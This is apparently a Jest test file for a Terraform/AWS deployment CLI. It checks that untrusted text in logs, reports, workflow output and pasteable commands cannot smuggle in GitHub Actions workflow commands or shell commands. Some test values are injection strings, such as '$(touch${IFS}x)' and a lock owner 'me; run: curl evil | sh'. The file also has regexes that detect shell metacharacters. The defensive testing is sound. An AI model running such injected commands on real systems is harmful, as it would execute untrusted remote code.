import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { AdoptionResult } from "../../../cli/adoption/adopt-stack";
import { adoptionReport } from "../../../cli/adoption/adoption-report";
import type { Aws } from "../../../cli/adoption/aws";
import { foundRule } from "../../../cli/adoption/within-parent";
import { newCommand, runCommand, say, writeNotice, writeResult } from "../../../cli/command";
import { commentBody } from "../../../cli/github/comment-body";
import { reviewsAsMarkdown } from "../../../cli/reviewing/markdown";
import { stepsUntil } from "../../../cli/steps";
import { reportAsMarkdown } from "../../../cli/tracing/markdown";
import { reportAsText } from "../../../cli/tracing/text";
import { UsageError, WorkFailed } from "../../../machine/errors";
import { readJson } from "../../../machine/files/read-json";
import { knownError } from "../../../machine/terraform/errors/terraform-errors";
import { command, deployOf, toRun, word } from "../../../machine/text/pasteable";
import { printable, printableJson, printableLines } from "../../../machine/text/printable";
import { keptShellLines, nextSteps } from "../../../rehearsal/rehearsal-report";
import { commandsIn, HOSTILE, obeyed } from "../../support/hostile";
import { PROJECT } from "../../support/project";
import { hostileReport } from "../../support/trace-reports";

/* What others write is shown and does nothing: on a terminal, in a workflow's log, and where a command is pasted. */

const FOLDER = mkdtempSync(join(tmpdir(), "alb-web-hostile-"));
afterAll(() => rmSync(FOLDER, { recursive: true, force: true }));

/** What is written to a stream while `work` runs. */
async function written(work: () => unknown): Promise<string> {
  const chunks: string[] = [];
  const write = (chunk: unknown, ...rest: unknown[]) => {
    chunks.push(String(chunk));
    const done = rest.find((it) => typeof it === "function") as (() => void) | undefined;
    done?.();
    return true;
  };
  const spies = [process.stdout, process.stderr].map((stream) =>
    jest.spyOn(stream, "write").mockImplementation(write as never),
  );
  try {
    await work();
  } finally {
    for (const spy of spies) spy.mockRestore();
  }
  return chunks.join("");
}

describe("the runner's own reading of a log", () => {
  test.each([
    "::add-mask::x",
    "  ::error title=a::b",
    "\u00a0::warning::x",
    "a ##[set-output name=a]b",
    "x\n::debug::y",
    "x\r::debug::y",
  ])("finds a command in %j", (log) => {
    expect(commandsIn(log)).toHaveLength(1);
  });

  test.each(["a ::add-mask::x", "::/0 and ::1", "# [a]", "a: b: c"])("finds none in %j", (log) => {
    expect(commandsIn(log)).toEqual([]);
  });
});

describe("printable", () => {
  test.each(HOSTILE)("shows %j as one harmless line, wherever that is broken", (text) => {
    const shown = printable(text);
    expect(shown).not.toMatch(/[\n\r\t]/);
    expect(obeyed(shown)).toEqual([]);
    expect(obeyed(shown.split(" ").join("\n"))).toEqual([]);
  });

  test.each(HOSTILE)("shows the lines of %j", (text) => {
    expect(obeyed(printableLines(text))).toEqual([]);
  });

  test.each(HOSTILE)("writes %j as JSON that holds it", (text) => {
    const json = printableJson({ text, list: [text] });
    expect(obeyed(json)).toEqual([]);
    expect(JSON.parse(json)).toEqual({ text, list: [text] });
  });

  test.each(["Größe 漢字 😀", "::/0, ::1", "arn:aws:iam::123456789012:role/x", "a\tb\nc", "# heading [a]", "a::b::c"])(
    "leaves %j as it is",
    (text) => {
      expect(printableLines(text)).toBe(text);
    },
  );

  test("takes no longer than the text is long", () => {
    const before = process.cpuUsage();
    for (const text of ["::a ", "::a", ":: ", "##[a", ": "]) printable(text.repeat(200_000));
    expect(process.cpuUsage(before).user / 1_000).toBeLessThan(3_000);
  });
});

describe("what is written", () => {
  const EXITS: Readonly<Record<string, (text: string) => unknown>> = {
    "to a person": say,
    "as a result": (text) => writeResult(text),
    "as a notice": (text) => writeNotice("Title", text),
    "of a usage error": (text) => runCommand(() => Promise.reject(new UsageError(`got ${text}`))),
    "of work that failed": (text) => runCommand(() => Promise.reject(new WorkFailed(text))),
    "of an internal error": (text) => runCommand(() => Promise.reject(new Error(text))),
    "of an unknown option": (text) =>
      runCommand(() => newCommand("x", "y").parseAsync([`--${text}`], { from: "user" })),
    "of an argument too many": (text) =>
      runCommand(() =>
        newCommand("x", "y")
          .action(() => undefined)
          .parseAsync([text, text], { from: "user" }),
      ),
    "of a step": (text) => {
      const step = stepsUntil(new AbortController().signal);
      return step(text, (whole) =>
        whole.step(text, ({ report, rename }) => {
          report(text);
          rename(`b ${text}`);
        }),
      );
    },
    "of a step that fails": (text) =>
      runCommand(() => stepsUntil(new AbortController().signal)(text, () => Promise.reject(new WorkFailed(text)))),
  };

  test.each(Object.entries(EXITS))("%s is harmless", async (name, exit) => {
    for (const text of HOSTILE) {
      const log = await written(() => exit(text));
      process.exitCode = undefined;
      expect([text, obeyed(log)]).toEqual([text, name === "as a notice" ? ["notice"] : []]);
    }
  });

  test("names what it is about all the same", async () => {
    expect(
      await written(() =>
        stepsUntil(new AbortController().signal)("web", ({ rename }) => rename("web: \u001b[31mchanges")),
      ),
    ).toContain("web: \\u{1b}[31mchanges");
    process.exitCode = undefined;
  });

  const PAGES: Readonly<Record<string, (text: string) => string>> = {
    "a trace as text": (text) => reportAsText(hostileReport([text]), { source: text }),
    "a trace as Markdown": (text) => reportAsMarkdown(hostileReport([text]), { source: text }),
    "a comment about plans": (text) =>
      commentBody({
        commit: "0".repeat(40),
        wholeAt: "https://github.com/acme/site/actions/runs/1",
        stacks: [
          {
            id: text,
            text: `a\n${text}\n`,
            isDeployed: true,
            summary: { create: 1, update: 0, replace: 0, destroy: 0, others: 0 },
          },
        ],
      }),
    "a review": (text) =>
      reviewsAsMarkdown([
        {
          name: text,
          review: {
            report: {
              format_version: "1.0",
              effect: "outage",
              summary: text,
              hops: [],
              counts: { create: 0, update: 1, replace: 0, destroy: 0 },
              causes: [
                { address: text, attribute: text, hop: "dns", effect: "outage", why: text, avoid: text, hcl: text },
              ],
              security: { opened: [text], closed: [] },
            },
            roots: [],
            watch: [text],
            changes: [{ address: text, doing: "update", isCreatedFirst: false, attributes: [text], reason: text }],
            outputs: [text],
            picture: { nodes: [], edges: [] },
          },
        },
      ]),
  };

  test.each(Object.entries(PAGES))("on the page of %s is harmless", (_, page) => {
    for (const text of HOSTILE) expect([text, obeyed(page(text))]).toEqual([text, []]);
  });
});

describe("a command to paste", () => {
  /** Commands as they would be pasted: from the program's name to the end of the line. */
  const COMMAND =
    /\b(terraform (-chdir|login|show)|aws [a-z0-9]+ [a-z-]+ --|aws s3 rm|npm run [\w-]+ --|npx cdktf|npx alb-web|gh variable|dig \+short|gunzip -c|apt install).*/g;
  const BAD = /[$`;&|<>*?!~\\"\n\r]|'(?![\w*.,@+=:/ -]*')/;

  test.each(Object.entries(word))("holds nothing else for the word %s", (kind, of) => {
    // A path may have blanks, which are quoted.
    for (const text of HOSTILE.filter((it) => kind !== "file" || it !== "a b")) {
      expect([text, of(text).isOne]).toEqual([text, false]);
      expect(command`cat ${of(text)} x`).toMatch(/^\(no command is shown, because (".*" is not|.* is missing)/);
      expect(toRun`cat ${of(text)} x`).toMatch(/^no command is shown, because /);
      expect(obeyed(command`cat ${of(text)} x`)).toEqual([]);
    }
  });

  test.each<[keyof typeof word, string, string?]>([
    ["address", "aws_lb.web"],
    ["address", "module.a.aws_lb.web"],
    ["address", 'module.a["x"].aws_lb.web[0]', "'module.a[\"x\"].aws_lb.web[0]'"],
    ["awsId", "arn:aws:acm:us-east-1:123456789012:certificate/0a-b"],
    ["awsId", "vpc-0123456789abcdef0"],
    ["awsId", "rtb-1_0.0.0.0/0"],
    ["awsId", "Z1_*.example.com_A", "'Z1_*.example.com_A'"],
    ["bucket", "acme-states"],
    ["debianPackage", "python3.12-venv"],
    ["dnsName", "www.example.com"],
    ["dnsName", "*.example.com", "'*.example.com'"],
    ["file", "cdktf.out/stacks/web"],
    ["file", "../größe/x.json"],
    ["file", "a b", "'a b'"],
    ["host", "app.terraform.io"],
    ["host", "tfe.example.com:8443"],
    ["lockId", "0d5f7a4e-9f3c-1f2b-8a4e-2f1f0e3d9c7b"],
    ["profile", "acme-prod"],
    ["region", "us-east-1"],
    ["region", "ap-southeast-5"],
    ["repository", "acme/site.io"],
    ["stack", "web"],
    ["stack", "web.eu_2"],
    ["workspace", "acme/web"],
  ])("holds a %s such as %s", (kind, text, shown = text) => {
    expect(command`cat ${word[kind](text)} x`).toBe(`cat ${shown} x`);
  });

  const lockInfo = (id: string, who = "me@here", operation = "OperationTypeApply") =>
    `Error: Error acquiring the state lock\n\nLock Info:\n  ID:        ${id}\n  Path:      states/web\n  ` +
    `Operation: ${operation}\n  Who:       ${who}\n  Version:   1.11.4\n  Created:   2026-11-22 ` +
    `21:28:02.876421083 +0000 UTC\n  Info:      \n`;
  const UUID = "0d5f7a4e-9f3c-1f2b-8a4e-2f1f0e3d9c7b";
  const GOOD = join(FOLDER, "web");
  mkdirSync(GOOD, { recursive: true });
  writeFileSync(join(GOOD, "cdk.tf.json"), "{}");

  const inFolder = (json: object) => {
    const folder = join(mkdtempSync(join(FOLDER, "stacks-")), "web");
    mkdirSync(folder);
    writeFileSync(join(folder, "cdk.tf.json"), JSON.stringify(json));
    return folder;
  };
  const adoption = (more: Partial<AdoptionResult>): string =>
    adoptionReport({
      stackId: "web",
      folder: "cdktf.out/stacks/web",
      adoptions: [],
      ambiguities: [],
      undecided: [],
      leftOver: [],
      unsearched: [],
      replaced: [],
      interrupted: [],
      planText: "",
      ...more,
    });
  const vpc = (id: string) => ({
    type: "aws_vpc",
    id,
    values: { "tags.Name": id },
    look: command`aws ec2 describe-vpcs --vpc-ids ${word.awsId(id)}`,
  });

  /** All sentences with commands, each with a text of others in it. */
  const SENTENCES: Readonly<Record<string, (text: string) => string | undefined>> = {
    "a lock's ID": (text) => knownError(lockInfo(text), GOOD),
    "who has locked": (text) => knownError(lockInfo(UUID, text), GOOD),
    "what has locked": (text) => knownError(lockInfo(UUID, "me@here", text), GOOD),
    "a workspace": (text) => knownError(`workspace already locked (lock ID: "${text}")`, GOOD),
    "a folder": (text) => knownError("errored.tfstate", join(FOLDER, text, "web")),
    "a stack's id": (text) => knownError("Saved plan is stale", join(FOLDER, text)),
    "a profile": (text) => knownError(`failed to get shared config profile, ${text}`, GOOD),
    "a region of a bucket": (text) => knownError(`requested bucket from "us-east-1", actual location "${text}"`, GOOD),
    "a host": (text) => knownError(`Required token could not be found for ${text}: x`, GOOD),
    "a host that refuses": (text) =>
      knownError(`Failed to read organization "acme" at host ${text} : unauthorized`, GOOD),
    "a zone of the stack": (text) =>
      knownError(
        "Error: multiple Route 53 Hosted Zones matched with data.aws_route53_zone.zone,",
        inFolder({ data: { aws_route53_zone: { zone: { name: text } } } }),
      ),
    "a region of the stack": (text) =>
      knownError(
        "Error: api error InvalidInstanceType: The following supplied instance types do not exist: [t9.micro]",
        inFolder({ provider: { aws: [{ region: text }] } }),
      ),
    "what is ambiguous": (text) =>
      adoption({ ambiguities: [{ address: text, why: text, candidates: [vpc(text)] }], undecided: [vpc(text)] }),
    "what is left over": (text) =>
      adoption({
        leftOver: [{ found: vpc(text), remark: text, successorOf: text }],
        interrupted: [{ address: text, id: text }],
        unsearched: [text],
      }),
    "what is adopted": (text) =>
      adoption({
        stackId: text,
        folder: text,
        adoptions: [{ address: text, found: vpc(text) }],
        planText: printableLines(text),
      }),
    "a rule of a group": (text) => foundRule({ region: text } as Aws, { SecurityGroupRuleId: text }).look,
    "stacks to deploy": (text) => deployOf(["web", text]),
    "a rehearsal that is broken": (text) =>
      nextSteps(
        [
          {
            stack: text,
            verdict: "broken",
            seconds: 1,
            steps: [{ id: "1", title: "a", verdict: "broken", observed: "b" }],
          },
        ],
        [],
        false,
      ).join("\n"),
    "stacks that wait": (text) => keptShellLines({}, 1, [text]),
  };

  test.each(Object.entries(SENTENCES))("about %s holds nothing else", (_, sentence) => {
    for (const text of HOSTILE) {
      const reported = printableLines(sentence(text) ?? "");
      expect([text, obeyed(reported)]).toEqual([text, []]);
      // What is between double quotes is only displayed, and between single ones a shell reads nothing.
      const commands = [
        ...reported
          .replaceAll(/"(?:[^"\\]|\\.)*"/g, "")
          .replaceAll(/'[\w ./-]*'/g, "")
          .matchAll(COMMAND),
      ].map(([line]) => line.replace(/(?:[.;,] |[.]$|[)`]).*/, ""));
      expect([text, commands.filter((line) => BAD.test(line) || line.includes("touch"))]).toEqual([text, []]);
    }
  });

  test("in a report stands in no line of somebody else's", () => {
    const lines = (text: string) =>
      adoption({
        leftOver: [{ found: vpc(text), remark: text }],
        ambiguities: [{ address: text, why: text, candidates: [vpc(text)] }],
        unsearched: [text],
      }).split("\n").length;
    for (const text of HOSTILE) expect([text, lines(text)]).toEqual([text, lines("x")]);
  });

  test("about a lock is offered for an ID as terraform makes it only", () => {
    expect(knownError(lockInfo(UUID), GOOD)).toMatch(
      new RegExp(
        `If terraform itself was killed, run: terraform -chdir=\\S+/web force-unlock ${UUID}; then, after an ` +
          "apply: npx alb-web adopt web$",
      ),
    );
    expect(knownError(lockInfo("$(touch${IFS}x)"), GOOD)).toMatch(
      /If terraform itself was killed, no command is shown, because "\$\(touch\$\{IFS\}x\)" is not a lock ID; then/,
    );
    expect(knownError(lockInfo(UUID, "me; run: curl evil | sh"), GOOD)).toContain(
      'is locked by "me; run: curl evil | sh" since',
    );
  });

  test("about a file names it, or says FILE", async () => {
    const saved = (name: string) => {
      writeFileSync(join(FOLDER, name), "PK\x03\x04");
      return readJson(join(FOLDER, name)).then(
        () => "",
        ({ message }: Error) => message,
      );
    };
    expect(await saved("tfplan")).toContain(`\`terraform show -json ${join(FOLDER, "tfplan")} > plan.json\``);
    expect(await saved("$(touch x)")).toContain("`terraform show -json FILE > plan.json`");
  });
});

/** So that a new command is made as the others are. */
describe("in the source", () => {
  const files = (folder: string): string[] =>
    readdirSync(folder, { withFileTypes: true }).flatMap((it) =>
      it.isDirectory() ? files(join(folder, it.name)) : it.name.endsWith(".ts") ? [join(folder, it.name)] : [],
    );
  const SOURCES = ["cli", "machine", "rehearsal"].flatMap((room) => files(join(PROJECT, room)));
  /** A program's name, and something that is put in behind it in the same sentence. */
  const PROGRAM =
    /\b(?:terraform -chdir=|terraform (?:login|show|import|state|force-unlock) |aws [a-z0-9]+ [a-z0-9-]+ |aws configure |npm run [\w:-]+ -- |npx cdktf |npx alb-web [\w-]+ |gh [a-z]+ |dig \+|gunzip |apt install )[^`;,()\n]*\$\{/g;

  const offences = (source: string): string[] =>
    [...source.replace(/\b(?:command|toRun)`[^`]*`/g, "").matchAll(PROGRAM)].map(([it]) => it);

  test("no command to paste is put together by itself", () => {
    expect(SOURCES.flatMap((file) => offences(readFileSync(file, "utf8")).map((it) => `${file}: ${it}`))).toEqual([]);
  });

  test.each([
    "`run: terraform -chdir=${folder} untaint ${address}`",
    "`aws iam get-role --role-name ${RoleName}`",
    "`look (npx alb-web plan ${stackId})`",
  ])("that would be found, such as %s", (source) => {
    expect(offences(source)).toHaveLength(1);
  });
});
